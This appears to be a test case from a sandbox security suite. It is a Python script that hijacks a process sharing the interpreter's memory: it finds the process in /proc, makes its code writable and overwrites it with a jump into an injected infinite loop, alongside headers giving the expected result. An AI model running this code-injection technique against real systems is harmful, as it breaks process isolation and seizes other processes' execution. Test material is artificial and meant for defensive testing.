# Makes the process that shares a prepared interpreter's memory run code of the program's, which burns a
# core for ever when the program has ended.
# hole: our own find: what keeps a program's memory until its answer is out is a process in that memory
# stopped by: namespaces
# expect: {"status": "ok", "stdout": {"any": ["taken over\n", "no shadow\n"]}, "stderr": "", "usage": {"wall_ms": {"most": 2000}}}
# takes_at_most_ms: 4000
import ctypes, mmap, os, signal, time

shadows = [name for name in os.listdir("/proc") if name.isdigit() and b"shadow" in open(f"/proc/{name}/comm", "rb").read()]
if not shadows:
    print("no shadow")
    raise SystemExit
shadow = int(shadows[0])
loop = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
loop.write(b"\xeb\xfe")  # a jump to itself
there = ctypes.addressof(ctypes.c_char.from_buffer(loop))
# It waits in a system call, which begins anew when it was stopped. This program makes its own by the same
# instruction: nothing that waits may be called until that is mended.
address = int(open(f"/proc/{shadow}/syscall").read().split()[-1], 16) - 2
libc = ctypes.CDLL(None, use_errno=True)
assert libc.mprotect(ctypes.c_void_p(address & ~4095), 8192, 7) == 0, os.strerror(ctypes.get_errno())
before = ctypes.string_at(address, 14)
os.kill(shadow, signal.SIGSTOP)
ctypes.memmove(address, b"\xff\x25" + bytes(4) + there.to_bytes(8, "little"), 14)
os.kill(shadow, signal.SIGCONT)
end = time.monotonic() + 0.5
while time.monotonic() < end:
    pass
ctypes.memmove(address, before, 14)
time.sleep(0.1)
fields = open(f"/proc/{shadow}/stat").read().rsplit(")", 1)[1].split()
print("taken over" if int(fields[11]) > 1 else "it did not run")
